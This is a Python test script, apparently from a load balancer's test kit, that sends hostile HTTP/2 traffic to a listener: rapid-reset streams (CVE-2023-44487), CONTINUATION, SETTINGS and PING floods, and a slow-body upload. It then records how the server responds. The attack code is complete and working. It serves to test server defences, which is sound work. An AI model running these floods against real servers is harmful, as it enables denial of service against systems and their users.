"""Hostile HTTP/2 clients for the tests, frames crafted with Debian's python3-h2 (hyperframe,
hpack), run by lb-testkit against a plain (h2c) listener.

    hostile.py ATTACK HOST PORT N

ATTACK is one of:
    rapid-reset    N streams opened and reset at once, as fast as the socket takes them
                   (CVE-2023-44487);
    continuation   one HEADERS without END_HEADERS, then up to N CONTINUATION frames of 1 KiB;
    settings       N SETTINGS frames, never reading the ACKs;
    ping           N PING frames, never reading the answers;
    slow-body      one POST /upload stream announcing 100 bytes of body and sending 1; waits up
                   to N seconds for the server's answer.
Prints one JSON line: frames sent, whether the server closed the connection, the GOAWAY error
code it sent (if any), the statuses of answers seen, and seconds taken.
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def request_block(encoder, host, method="GET", extra=(), path="/"):
    return encoder.encode([(":method", method), (":scheme", "http"), (":authority", host), (":path", path),
                           *extra])


class Reader:
    """What the server sends back, read without blocking the attack."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""
        self.closed, self.goaway, self.statuses = False, None, []
        self.decoder = hpack.Decoder()

    def poll(self, wait=0.0):
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            data = self.sock.recv(1 << 20)
        except (socket.timeout, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, HeadersFrame):
                try:
                    for name, value in self.decoder.decode(frame.data):
                        if name in (":status", b":status"):
                            self.statuses.append(int(value))
                except Exception:
                    pass


def send(sock, reader, data):
    """Sends unless the server has closed; False once it has."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        reader.closed = True
        return False


def main():
    attack, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    reader = Reader(sock)
    encoder = hpack.Encoder()
    authority = f"{host}:{port}"
    start = time.time()
    sent = 0
    send(sock, reader, PREFACE + SettingsFrame(0).serialize())
    if attack == "rapid-reset":
        stream = 1
        for _ in range(n):
            headers = HeadersFrame(stream, request_block(encoder, authority), flags=["END_HEADERS", "END_STREAM"])
            if not send(sock, reader, headers.serialize() + RstStreamFrame(stream, error_code=CANCEL).serialize()):
                break
            sent += 1
            stream += 2
            if sent % 100 == 0:
                reader.poll()
                if reader.closed:
                    break
    elif attack == "continuation":
        block = request_block(encoder, authority, extra=[("x-filler", "a" * 100)])
        if send(sock, reader, HeadersFrame(1, block).serialize()):
            filler = encoder.encode([("x-more", "b" * 1000)])
            for _ in range(n):
                if not send(sock, reader, ContinuationFrame(1, filler).serialize()):
                    break
                sent += 1
                if sent % 50 == 0:
                    reader.poll()
                    if reader.closed:
                        break
    elif attack in ("settings", "ping"):
        for i in range(n):
            frame = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}) if attack == "settings" \
                else PingFrame(0, opaque_data=i.to_bytes(8, "big"))
            if not send(sock, reader, frame.serialize()):
                break
            sent += 1
    elif attack == "slow-body":
        block = request_block(encoder, authority, method="POST", extra=[("content-length", "100")], path="/upload")
        send(sock, reader, HeadersFrame(1, block, flags=["END_HEADERS"]).serialize())
        send(sock, reader, DataFrame(1, b"x").serialize())
        sent = 1
        deadline = time.time() + n
        while time.time() < deadline and not reader.closed and not reader.statuses:
            reader.poll(0.2)
    else:
        sys.exit(f"unknown attack {attack}")
    # What the server did about it, within a few seconds.
    deadline = time.time() + 5
    while time.time() < deadline and not reader.closed:
        reader.poll(0.2)
        if attack == "slow-body" and reader.statuses:
            break
    print(json.dumps({"sent": sent, "closed": reader.closed, "goaway": reader.goaway, "statuses": reader.statuses,
                      "seconds": round(time.time() - start, 2)}), flush=True)


if __name__ == "__main__":
    main()
